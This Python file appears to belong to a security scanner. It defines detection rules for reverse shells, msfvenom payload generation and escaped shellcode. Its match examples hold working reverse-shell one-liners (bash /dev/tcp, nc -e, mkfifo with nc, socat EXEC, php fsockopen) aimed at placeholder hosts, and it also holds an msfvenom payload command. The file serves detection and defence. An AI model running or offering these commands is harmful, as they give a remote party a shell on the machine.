"""Rules: shells handed to somebody elsewhere."""

from __future__ import annotations

from engine.analysis.shell.declare import CRITICAL, HIGH, rule

REVERSE = rule(
    "sh-reverse-shell",
    "Hands a shell to another machine",
    "reverse_shell",
    CRITICAL,
    attack="Gives whoever listens at the other end a command line on this machine.",
    why="CRITICAL: there is no honest reason to join a shell's input and output to the network.",
    fix="Remove it.",
    match=(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "socat TCP:10.0.0.1:1 EXEC:/bin/sh",
        "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l >&5; done",
        'php -r \'$s=fsockopen("h",1);exec("sh <&3 >&3");\'',
    ),
    not_match=(
        "nc -z localhost 80",
        "echo hi > /dev/tcp/localhost/80",
        "socat - TCP:localhost:80",
        "bash -i",
    ),
    cwe=506,
)
GENERATOR = rule(
    "sh-payload-generator",
    "Makes a remote-access payload",
    "reverse_shell",
    HIGH,
    attack="Builds a program that opens a shell on whichever machine runs it.",
    why="HIGH: it makes the weapon, but does not fire it here.",
    fix="Remove it.",
    match=("msfvenom -p linux/x64/shell_reverse_tcp LHOST=1.2.3.4 -f elf",),
    not_match=("man msfvenom",),
    cwe=506,
)
SHELLCODE = rule(
    "sh-shellcode",
    "Contains machine code as escaped bytes",
    "reverse_shell",
    HIGH,
    attack=("Carries a program in a form that no reviewer can read, to be written out or injected."),
    why="HIGH: what the bytes do is unknown; CRITICAL would need to see them run.",
    fix="Send source code.",
    match=(
        ("printf '\\x31\\xdb\\xf7\\xe3\\x53\\x43\\x53\\x6a\\x02\\x89\\xe1\\xb0\\x66\\xcd\\x80\\x93' > a"),
    ),
    not_match=(
        "printf '\\xe2\\x9c\\x93 ok'",
        "echo -e '\\x1b[31m\\x1b[0m'",
    ),
    cwe=506,
)

RULES = (
    REVERSE,
    GENERATOR,
    SHELLCODE,
)
